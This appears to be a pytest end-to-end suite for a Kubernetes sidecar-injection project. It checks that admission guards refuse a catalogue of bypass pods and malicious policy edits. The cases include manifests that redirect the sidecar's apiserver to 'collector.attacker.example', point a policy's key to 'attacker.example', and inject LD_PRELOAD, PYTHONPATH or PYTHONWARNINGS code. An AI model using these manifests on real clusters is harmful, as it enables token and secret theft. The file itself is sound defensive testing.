"""The bypass catalogue: every way a pod could run as a subject account while holding an API token.

On the real apiserver, with both guards applied from ``helm template`` and the
real ``sidekey webhook`` registered. Each case asks the apiserver and reads
its answer: refused, and nothing stored. A control case shows the ordinary
path (an annotated pod through the webhook) is admitted, so the refusals are
not a cluster that refuses everything.

At the end every stored pod in the cluster that carries the sidecar is read
back, and no container but the sidecar may mount an API-audience token.
"""

from __future__ import annotations

import copy
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from sidekey.core import contract
from tests.guards import admission, manifests
from tests.support.namespaces import make_namespace
from tests.support.webhook import RunningWebhook, running_webhook

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def guarded(cluster: Any, crds: list[str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, RunningWebhook]]:
    """Guards, a running webhook, and a namespace whose ``agent`` account is a policy subject."""
    text = admission.install_guards(cluster)
    namespace = make_namespace(cluster, "skbypass")
    try:
        with running_webhook(cluster, tmp_path_factory.mktemp("bypass-webhook")) as hook:
            for obj in (manifests.service_account(namespace, "agent"), manifests.secret(namespace),
                        manifests.service_account(namespace, "bystander"),
                        manifests.service_account(namespace, LOCAL_AGENT),
                        manifests.agent_policy(namespace),
                        manifests.secret(namespace, OTHER_SECRET),
                        manifests.agent_policy(namespace, "github", subjects=["someone-else"],
                                               secret_name=OTHER_SECRET),
                        manifests.secret(namespace, "ollama-key"), _insecure_policy(namespace)):
                assert admission.apply(cluster, obj).admitted
            answer = admission.wait_until_enforced(cluster, manifests.bare_pod(namespace, "probe"))
            assert not answer.admitted, "the bypass guard did not take effect within 30 s"
            _wait_for_webhook(cluster, namespace)
            yield namespace, hook
    finally:
        cluster.kubectl("delete", "namespace", namespace, "--wait=false", check=False)
        admission.remove_guards(cluster, text)


OTHER_SECRET = "github-token"
LOCAL_AGENT = "local-agent"


def _insecure_policy(namespace: str) -> dict[str, Any]:
    """A plain-http upstream for ``local-agent``: the key crosses the pod's loopback in the clear."""
    policy = manifests.agent_policy(namespace, "local-llm", subjects=[LOCAL_AGENT], secret_name="ollama-key",
                                    url="http://ollama.models.svc:11434")
    policy["spec"]["upstreams"][0]["insecure"] = True
    return policy


def _wait_for_webhook(cluster: Any, namespace: str) -> None:
    probe = manifests.bare_pod(namespace, "webhook-probe", annotations={contract.ANNOTATION_INJECT: "true"})
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        answer = admission.create(cluster, probe, dry_run=True)
        if answer.admitted and answer.obj and answer.obj["spec"].get("initContainers"):
            return
        time.sleep(0.3)
    raise AssertionError("the webhook configuration was not live within 20 s")


def _injected_through_the_webhook(cluster: Any, namespace: str, name: str) -> dict[str, Any]:
    pod = manifests.bare_pod(namespace, name, annotations={contract.ANNOTATION_INJECT: "true"})
    answer = admission.create(cluster, pod)
    assert answer.admitted and answer.obj, answer.message
    return answer.obj


def _without_webhook(pod: dict[str, Any]) -> dict[str, Any]:
    """A hand-made injected-looking pod: no inject annotation, so the webhook never sees it."""
    pod["metadata"]["annotations"].pop(contract.ANNOTATION_INJECT, None)
    return pod


def _hand_injected(ns: str, name: str, change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    pod = _without_webhook(manifests.injected_pod(ns, name))
    change(pod)
    return pod


def _api_token_volume(pod: dict[str, Any]) -> None:
    pod["spec"]["volumes"].append({"name": "my-api-token", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token", "expirationSeconds": 3600}}]}})
    manifests.agent(pod)["volumeMounts"].append({"name": "my-api-token", "mountPath": "/var/run/t"})


def _mount_sidecar_volume(pod: dict[str, Any]) -> None:
    manifests.agent(pod)["volumeMounts"].append(
        {"name": contract.API_TOKEN_VOLUME, "mountPath": "/stolen", "readOnly": True})


def _secret_env(pod: dict[str, Any]) -> None:
    manifests.agent(pod)["env"].append({"name": "KEY", "valueFrom": {
        "secretKeyRef": {"name": manifests.SECRET, "key": "api-key"}}})


def _secret_env_from(pod: dict[str, Any]) -> None:
    manifests.agent(pod)["envFrom"] = [{"secretRef": {"name": manifests.SECRET}}]


def _secret_volume(pod: dict[str, Any]) -> None:
    pod["spec"]["volumes"].append({"name": "k", "secret": {"secretName": manifests.SECRET}})
    manifests.agent(pod)["volumeMounts"].append({"name": "k", "mountPath": "/k"})


def _doctored_image(pod: dict[str, Any]) -> None:
    manifests.sidecar(pod)["image"] = "evil.example/sidekey:0.1.0"


def _automount_on(pod: dict[str, Any]) -> None:
    pod["spec"]["automountServiceAccountToken"] = True


def _service_links_on(pod: dict[str, Any]) -> None:
    """Opted out, in the injected shape, with the kubelet's service links on (the apiserver's default).

    A namespace editor's Service named ``kubernetes`` would then set the
    sidecar's KUBERNETES_SERVICE_HOST/PORT (the kubelet lets a same-namespace
    service override the master service), and with a rewritten
    ``kube-root-ca.crt`` the sidecar would hand its API token to that endpoint.
    """
    pod["metadata"]["annotations"][contract.ANNOTATION_INJECT] = "false"
    pod["spec"]["enableServiceLinks"] = True


def _agent_as_second_sidecar(pod: dict[str, Any]) -> None:
    twin = copy.deepcopy(manifests.sidecar(pod))
    twin["name"] = "sidekey-proxy-2"
    twin["image"] = manifests.AGENT_IMAGE
    pod["spec"]["initContainers"].append(twin)


def _sidecar_as_regular_container(pod: dict[str, Any]) -> None:
    sidecar = pod["spec"]["initContainers"].pop(0)
    sidecar.pop("restartPolicy")
    sidecar["image"] = manifests.AGENT_IMAGE
    pod["spec"]["containers"].append(sidecar)


def _sidecar_env(**env: str) -> Callable[[dict[str, Any]], None]:
    def change(pod: dict[str, Any]) -> None:
        manifests.sidecar(pod)["env"] += [{"name": k, "value": v} for k, v in env.items()]
    return change


def _moved_apiserver_without_ca(pod: dict[str, Any]) -> None:
    """The sidecar's client sent to another host, trusting the system CA store."""
    _sidecar_env(KUBERNETES_SERVICE_HOST="collector.attacker.example", KUBERNETES_SERVICE_PORT="443")(pod)
    [api] = [v for v in pod["spec"]["volumes"] if v["name"] == contract.API_TOKEN_VOLUME]
    api["projected"]["sources"] = [s for s in api["projected"]["sources"] if "configMap" not in s]


def _code_over_site_packages(pod: dict[str, Any]) -> None:
    pod["spec"]["volumes"].append({"name": "patched", "configMap": {"name": "patched-sidekey"}})
    manifests.sidecar(pod)["volumeMounts"].append(
        {"name": "patched", "mountPath": "/opt/sidekey/lib/python3.11/site-packages/sidekey/core"})


def _shadowed_entry_point(pod: dict[str, Any]) -> None:
    pod["spec"]["volumes"].append({"name": "bin", "configMap": {"name": "evil-bin", "defaultMode": 0o755}})
    side = manifests.sidecar(pod)
    side["volumeMounts"].append({"name": "bin", "mountPath": "/tmp/bin"})
    side["env"].append({"name": "PATH", "value": "/tmp/bin:/usr/bin"})
    side["command"] = ["sidekey", "proxy"]


def _bystander(how: str) -> Callable[[str], dict[str, Any]]:
    """A pod of an account no policy names, reading the policy's Secret."""
    def build(ns: str) -> dict[str, Any]:
        pod = manifests.bare_pod(ns, f"bystander-{how.lower()}", sa="default" if how == "envFrom" else "bystander")
        agent = manifests.agent(pod)
        if how == "envFrom":
            agent["envFrom"] = [{"secretRef": {"name": manifests.SECRET}}]
        else:
            pod["spec"]["volumes"] = [{"name": "k", "projected": {"sources": [{"secret": {"name": manifests.SECRET}}]}}]
            agent["volumeMounts"] = [{"name": "k", "mountPath": "/k"}]
        return pod
    return build


def _reads_another_policys_secret(pod: dict[str, Any]) -> None:
    manifests.agent(pod)["env"].append({"name": "GITHUB_TOKEN", "valueFrom": {
        "secretKeyRef": {"name": OTHER_SECRET, "key": "api-key"}}})


def _annotated_bystander(ns: str) -> dict[str, Any]:
    pod = manifests.bare_pod(ns, "annotated-bystander", sa="bystander",
                             annotations={contract.ANNOTATION_INJECT: "true"})
    manifests.agent(pod)["envFrom"] = [{"secretRef": {"name": manifests.SECRET}}]
    return pod


def _keeps_net_raw(ns: str) -> dict[str, Any]:
    pod = _without_webhook(manifests.injected_pod(ns, "keeps-net-raw", sa=LOCAL_AGENT,
                                                  policy_list=[_insecure_policy(ns)]))
    manifests.agent(pod)["securityContext"] = {"capabilities": {"add": ["NET_RAW"]}}
    return pod


#: id -> a pod manifest builder (namespace -> pod). Every one must be refused.
POD_CASES: dict[str, Callable[[str], dict[str, Any]]] = {
    "bare-pod": lambda ns: manifests.bare_pod(ns, "bare"),
    "inject-false": lambda ns: manifests.bare_pod(ns, "opted-out", annotations={contract.ANNOTATION_INJECT: "false"}),
    "pre-stamped-status-annotation": lambda ns: manifests.bare_pod(
        ns, "stamped", annotations={contract.ANNOTATION_STATUS: '{"injected":true,"policies":["openai"]}'}),
    "stamped-and-opted-out": lambda ns: manifests.bare_pod(ns, "stamped-out", annotations={
        contract.ANNOTATION_STATUS: '{"injected":true}', contract.ANNOTATION_INJECT: "false"}),
    "doctored-sidecar-image": lambda ns: _hand_injected(ns, "doctored", _doctored_image),
    "image-annotation-outside-the-allow-list": lambda ns: manifests.bare_pod(ns, "image-note", annotations={
        contract.ANNOTATION_INJECT: "true", contract.ANNOTATION_IMAGE: "evil.example/sidekey:0.1.0"}),
    "agent-mounts-the-sidecars-api-volume": lambda ns: _hand_injected(ns, "mounts-api", _mount_sidecar_volume),
    "agent-with-its-own-api-token-projection": lambda ns: _hand_injected(ns, "own-token", _api_token_volume),
    "agent-reads-the-secret-by-env": lambda ns: _hand_injected(ns, "secret-env", _secret_env),
    "agent-reads-the-secret-by-envfrom": lambda ns: _hand_injected(ns, "secret-envfrom", _secret_env_from),
    "agent-reads-the-secret-by-volume": lambda ns: _hand_injected(ns, "secret-volume", _secret_volume),
    "automount-left-on": lambda ns: _hand_injected(ns, "automount", _automount_on),
    "a-second-sidecar-named-like-ours": lambda ns: _hand_injected(ns, "twin", _agent_as_second_sidecar),
    "sidecar-as-a-regular-container": lambda ns: _hand_injected(ns, "regular", _sidecar_as_regular_container),
    # issue 14, High: a look-alike sidecar that hands its API token on
    "lookalike-sidecar-moves-the-apiserver-and-drops-the-ca": lambda ns: _hand_injected(
        ns, "moved-apiserver", _moved_apiserver_without_ca),
    "lookalike-sidecar-runs-code-through-pythonwarnings": lambda ns: _hand_injected(
        ns, "pythonwarnings", _sidecar_env(PYTHONWARNINGS="ignore::antigravity.Warning", BROWSER="sh -c leak")),
    "lookalike-sidecar-with-pythonpath": lambda ns: _hand_injected(ns, "pythonpath", _sidecar_env(PYTHONPATH="/tmp/x")),
    "lookalike-sidecar-with-ld-preload": lambda ns: _hand_injected(ns, "ld-preload", _sidecar_env(LD_PRELOAD="/tmp/x.so")),
    "lookalike-sidecar-with-a-configmap-over-site-packages": lambda ns: _hand_injected(
        ns, "site-packages", _code_over_site_packages),
    "lookalike-sidecar-with-path-and-a-mounted-sidekey": lambda ns: _hand_injected(
        ns, "shadowed", _shadowed_entry_point),
    # issue 14, High: any pod in the namespace can mount a policy's Secret
    "default-account-pod-reads-the-secret-by-envfrom": _bystander("envFrom"),
    "bystander-pod-mounts-the-secret-by-projected-volume": _bystander("projected"),
    "subject-of-one-policy-reads-another-policys-secret": lambda ns: _hand_injected(
        ns, "cross-policy", _reads_another_policys_secret),
    "annotated-bystander-pod-reads-the-secret-through-the-webhook": _annotated_bystander,
    # issue 14, Medium: an insecure upstream's key sniffed on loopback
    "agent-adds-net-raw-beside-an-insecure-upstream": _keeps_net_raw,
    # issue 14, follow-up: a Service named kubernetes moves the sidecar's apiserver through service links
    "opted-out-pod-in-the-injected-shape-with-service-links": lambda ns: _hand_injected(
        ns, "service-links", _service_links_on),
}


NO_SIDECAR = "must run with the sidekey sidecar"
API_TOKEN = "only the sidekey-proxy sidecar may hold it"
SECRET_REF = "whatever its service account"
LOOKALIKE = "let the sidekey webhook inject it"
#: What each refusal must say (the guard's or the webhook's own words).
WHY = {
    "bare-pod": NO_SIDECAR, "inject-false": NO_SIDECAR, "pre-stamped-status-annotation": NO_SIDECAR,
    "stamped-and-opted-out": NO_SIDECAR, "sidecar-as-a-regular-container": NO_SIDECAR,
    "doctored-sidecar-image": "is not on the sidekey chart's allow-list",
    "image-annotation-outside-the-allow-list": "is not on the sidecar image allow-list",
    "agent-mounts-the-sidecars-api-volume": API_TOKEN, "agent-with-its-own-api-token-projection": API_TOKEN,
    "a-second-sidecar-named-like-ours": API_TOKEN,
    "agent-reads-the-secret-by-env": SECRET_REF, "agent-reads-the-secret-by-envfrom": SECRET_REF,
    "agent-reads-the-secret-by-volume": SECRET_REF,
    "automount-left-on": "must set automountServiceAccountToken: false",
    "lookalike-sidecar-moves-the-apiserver-and-drops-the-ca": LOOKALIKE,
    "lookalike-sidecar-runs-code-through-pythonwarnings": "PYTHONWARNINGS",
    "lookalike-sidecar-with-pythonpath": "PYTHONPATH",
    "lookalike-sidecar-with-ld-preload": "LD_PRELOAD",
    "lookalike-sidecar-with-a-configmap-over-site-packages": "must mount only",
    "lookalike-sidecar-with-path-and-a-mounted-sidekey": LOOKALIKE,
    "default-account-pod-reads-the-secret-by-envfrom": f"AgentPolicy openai names ({manifests.SECRET}",
    "bystander-pod-mounts-the-secret-by-projected-volume": f"AgentPolicy openai names ({manifests.SECRET}",
    "subject-of-one-policy-reads-another-policys-secret": f"AgentPolicy github names ({OTHER_SECRET}",
    "annotated-bystander-pod-reads-the-secret-through-the-webhook":
        f"Secret {manifests.SECRET}, which AgentPolicy openai names",
    "agent-adds-net-raw-beside-an-insecure-upstream": "is insecure (plain http)",
    "opted-out-pod-in-the-injected-shape-with-service-links": "enableServiceLinks: false",
}


def test_control_an_annotated_pod_through_the_webhook_is_admitted(
        cluster: Any, guarded: tuple[str, RunningWebhook]) -> None:
    ns, _ = guarded
    stored = _injected_through_the_webhook(cluster, ns, "control")
    assert stored["spec"]["initContainers"][0]["name"] == contract.SIDECAR_CONTAINER_NAME
    # no Service of the namespace can set the sidecar's KUBERNETES_SERVICE_HOST
    assert stored["spec"]["enableServiceLinks"] is False


@pytest.mark.parametrize("case", list(POD_CASES))
def test_a_pod_that_would_hold_an_api_token_as_a_subject_is_refused(
        cluster: Any, guarded: tuple[str, RunningWebhook], case: str) -> None:
    ns, _ = guarded
    pod = POD_CASES[case](ns)
    answer = admission.create(cluster, pod)
    assert not answer.admitted, f"{case} was admitted:\n{json.dumps(answer.obj)[:1500]}"
    assert WHY[case] in answer.message, answer.message
    assert not admission.exists(cluster, "pod", ns, pod["metadata"]["name"])


def _ephemeral(cluster: Any, ns: str, pod: str, container: dict[str, Any]) -> admission.Answer:
    stored = json.loads(cluster.kubectl("get", "pod", pod, "-n", ns, "-o", "json"))
    stored["spec"]["ephemeralContainers"] = [*stored["spec"].get("ephemeralContainers", []), container]
    return admission.kubectl(cluster, "replace", "--subresource=ephemeralcontainers", "-o", "json", "-f", "-",
                             input=json.dumps(stored))


EPHEMERAL_CASES: dict[str, dict[str, Any]] = {
    "debug-container-aimed-at-the-sidecar": {
        "name": "dbg", "image": "busybox", "targetContainerName": contract.SIDECAR_CONTAINER_NAME},
    "debug-container-mounting-the-sidecars-api-volume": {
        "name": "dbg2", "image": "busybox",
        "volumeMounts": [{"name": contract.API_TOKEN_VOLUME, "mountPath": "/t"}]},
    "debug-container-reading-the-secret": {
        "name": "dbg3", "image": "busybox", "envFrom": [{"secretRef": {"name": manifests.SECRET}}]},
}


@pytest.mark.parametrize("case", list(EPHEMERAL_CASES))
def test_an_ephemeral_container_that_reaches_the_sidecar_or_its_token_is_refused(
        cluster: Any, guarded: tuple[str, RunningWebhook], case: str) -> None:
    ns, _ = guarded
    name = f"eph-{list(EPHEMERAL_CASES).index(case)}"
    _injected_through_the_webhook(cluster, ns, name)
    answer = _ephemeral(cluster, ns, name, EPHEMERAL_CASES[case])
    assert not answer.admitted, f"{case} was admitted"
    stored = json.loads(cluster.kubectl("get", "pod", name, "-n", ns, "-o", "json"))
    assert not stored["spec"].get("ephemeralContainers")


def test_kubectl_debug_aimed_at_the_sidecar_is_refused(cluster: Any, guarded: tuple[str, RunningWebhook]) -> None:
    ns, _ = guarded
    _injected_through_the_webhook(cluster, ns, "kubectl-debug")
    answer = admission.kubectl(cluster, "debug", "-n", ns, "kubectl-debug", "--image=busybox",
                               f"--target={contract.SIDECAR_CONTAINER_NAME}", "-c", "dbg")
    assert not answer.admitted, answer.message


def _api_audience_volumes(pod: dict[str, Any], issuer: str) -> set[str]:
    """Volumes that give a container a credential the apiserver accepts."""
    names: set[str] = set()
    for v in pod["spec"].get("volumes") or []:
        if v["name"].startswith(contract.KUBE_API_ACCESS_PREFIX):
            names.add(v["name"])
        for src in (v.get("projected") or {}).get("sources") or []:
            sat = src.get("serviceAccountToken")
            if sat is not None and sat.get("audience") in (None, "", issuer, "https://kubernetes.default.svc"):
                names.add(v["name"])
        if "secret" in v:
            names.add(v["name"])  # a service-account-token Secret is one; any Secret is suspect here
    return names


def test_no_stored_injected_pod_gives_an_api_token_to_any_container_but_the_sidecar(
        cluster: Any, guarded: tuple[str, RunningWebhook]) -> None:
    ns, _ = guarded
    # a few more shapes through the webhook: several containers, init containers, a labelled namespace
    many = manifests.bare_pod(ns, "many", annotations={contract.ANNOTATION_INJECT: "true"})
    many["spec"]["initContainers"] = [{"name": "setup", "image": "busybox"}]
    many["spec"]["containers"].append({"name": "tool", "image": "example.invalid/tool:1"})
    assert admission.create(cluster, many).admitted
    pods = json.loads(cluster.kubectl("get", "pods", "-A", "-o", "json"))["items"]
    injected = [p for p in pods if any(c["name"] == contract.SIDECAR_CONTAINER_NAME
                                       for c in p["spec"].get("initContainers") or [])]
    assert len(injected) >= 2
    for pod in injected:
        where = f"{pod['metadata']['namespace']}/{pod['metadata']['name']}"
        credential_volumes = _api_audience_volumes(pod, cluster.issuer)
        assert pod["spec"].get("automountServiceAccountToken") is False, where
        if pod["metadata"]["namespace"] == ns:  # other modules' hand-made sidecar pods share the cluster
            assert pod["spec"].get("enableServiceLinks") is False, where
        for c in [*(pod["spec"].get("initContainers") or []), *pod["spec"]["containers"],
                  *(pod["spec"].get("ephemeralContainers") or [])]:
            if c["name"] == contract.SIDECAR_CONTAINER_NAME:
                continue
            mounted = {m["name"] for m in c.get("volumeMounts") or []}
            assert not mounted & credential_volumes, f"{where}: {c['name']} mounts {mounted & credential_volumes}"
            assert not mounted & {contract.API_TOKEN_VOLUME}, where


@pytest.mark.parametrize("failure_policy", ["Ignore", "Fail"])
def test_with_the_webhook_down_an_opted_in_subject_pod_is_never_created_without_its_sidecar(
        cluster: Any, guarded: tuple[str, RunningWebhook], failure_policy: str, tmp_path: Path) -> None:
    ns, hook = guarded
    hook.process.stop()
    config = json.loads(cluster.kubectl("get", "mutatingwebhookconfiguration", hook.config_name, "-o", "json"))
    for entry in config["webhooks"]:
        entry["failurePolicy"] = failure_policy
    for key in ("resourceVersion", "uid", "creationTimestamp", "generation", "managedFields"):
        config["metadata"].pop(key, None)
    cluster.kubectl("apply", "-f", "-", input=yaml.safe_dump(config))
    time.sleep(2)  # the apiserver reloads webhook configurations asynchronously
    name = f"down-{failure_policy.lower()}"
    pod = manifests.bare_pod(ns, name, annotations={contract.ANNOTATION_INJECT: "true"})
    answer = admission.create(cluster, pod)
    assert not answer.admitted, answer.message
    assert not admission.exists(cluster, "pod", ns, name)
    if failure_policy == "Ignore":
        assert "sidekey.io/inject" in answer.message, answer.message  # the guard's own refusal


# --- escalation: a policy author who may not read the Secret cannot point the key elsewhere ---------

MALLORY = "mallory"


@pytest.fixture(scope="module")
def mallory(cluster: Any, guarded: tuple[str, RunningWebhook]) -> str:
    """``mallory`` may write AgentPolicies in the guarded namespace, not read its Secrets."""
    ns, _ = guarded
    for obj in [
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
         "metadata": {"name": "policy-editor", "namespace": ns},
         "rules": [{"apiGroups": [contract.GROUP], "resources": [contract.PLURAL],
                    "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "policy-editor", "namespace": ns},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "policy-editor"},
         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": MALLORY}]},
        manifests.service_account(ns, "mallory-bot"),
    ]:
        assert admission.apply(cluster, obj).admitted
    deadline = time.monotonic() + 20
    while not cluster.kubectl("auth", "can-i", "create", f"{contract.PLURAL}.{contract.GROUP}", "-n", ns,
                              f"--as={MALLORY}", check=False).strip().startswith("yes"):
        assert time.monotonic() < deadline, "RBAC for mallory did not apply"
        time.sleep(0.2)
    return ns


def _edit(policy: dict[str, Any], change: str) -> dict[str, Any]:
    edited = copy.deepcopy(policy)
    up = edited["spec"]["upstreams"][0]
    if change == "url-to-the-attackers-host":
        up["url"] = "https://attacker.example/v1"
    elif change == "own-account-as-subject":
        edited["spec"]["subjects"]["serviceAccounts"].append("mallory-bot")
    elif change == "allow-every-path":
        up["allow"] = [{"methods": ["*"], "paths": ["/**"]}]
    return edited


ESCALATIONS = ["new-policy-naming-the-secret", "url-to-the-attackers-host", "own-account-as-subject",
               "allow-every-path"]


@pytest.mark.parametrize("case", ESCALATIONS)
def test_a_policy_author_who_cannot_read_the_secret_cannot_redirect_its_key(
        cluster: Any, mallory: str, case: str) -> None:
    ns = mallory
    if case == "new-policy-naming-the-secret":
        manifest = manifests.agent_policy(ns, "mallorys", subjects=["mallory-bot"], url="https://attacker.example")
        answer = admission.create(cluster, manifest, as_user=MALLORY)
    else:
        stored = json.loads(cluster.kubectl("get", "agentpolicy", "openai", "-n", ns, "-o", "json"))
        answer = admission.kubectl(cluster, "replace", "-o", "json", "-f", "-",
                                   input=json.dumps(_edit(stored, case)), as_user=MALLORY)
    assert not answer.admitted, f"{case} was admitted"
    assert manifests.SECRET in answer.message, answer.message
    stored = json.loads(cluster.kubectl("get", "agentpolicy", "openai", "-n", ns, "-o", "json"))
    assert stored["spec"]["upstreams"][0]["url"] == "https://api.openai.com/v1"
    assert stored["spec"]["subjects"]["serviceAccounts"] == ["agent"]


TRUDY = "trudy"


def test_a_policy_author_who_may_read_their_secret_cannot_name_someone_elses_account(
        cluster: Any, guarded: tuple[str, RunningWebhook]) -> None:
    """issue 14, Low "Subjects": naming ``agent`` would lock its uninjected pods out and let an older
    policy of the author's win the victim's route names. The author must be able to act as the account."""
    ns, _ = guarded
    rules = [{"apiGroups": [contract.GROUP], "resources": [contract.PLURAL], "verbs": ["get", "create"]},
             {"apiGroups": [""], "resources": ["secrets"], "resourceNames": [OTHER_SECRET], "verbs": ["get"]},
             {"apiGroups": [""], "resources": ["serviceaccounts/token"], "resourceNames": ["bystander"],
              "verbs": ["create"]}]
    for obj in [
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
         "metadata": {"name": "trudy", "namespace": ns}, "rules": rules},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "trudy", "namespace": ns},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "trudy"},
         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": TRUDY}]},
    ]:
        assert admission.apply(cluster, obj).admitted
    deadline = time.monotonic() + 20
    while not cluster.kubectl("auth", "can-i", "get", f"secret/{OTHER_SECRET}", "-n", ns,
                              f"--as={TRUDY}", check=False).strip().startswith("yes"):
        assert time.monotonic() < deadline, "RBAC for trudy did not apply"
        time.sleep(0.2)
    own = manifests.agent_policy(ns, "trudys", subjects=["bystander"], secret_name=OTHER_SECRET)
    assert admission.create(cluster, own, as_user=TRUDY, dry_run=True).admitted
    victim = manifests.agent_policy(ns, "trudys", subjects=["bystander", "agent"], secret_name=OTHER_SECRET)
    answer = admission.create(cluster, victim, as_user=TRUDY)
    assert not answer.admitted, "a policy naming an account its author cannot act as was admitted"
    assert "may not create tokens for service account agent" in answer.message, answer.message
    assert not admission.exists(cluster, "agentpolicy", ns, "trudys")


def test_the_count_of_bypass_cases() -> None:
    assert len(POD_CASES) + len(EPHEMERAL_CASES) + 1 + 2 >= 7
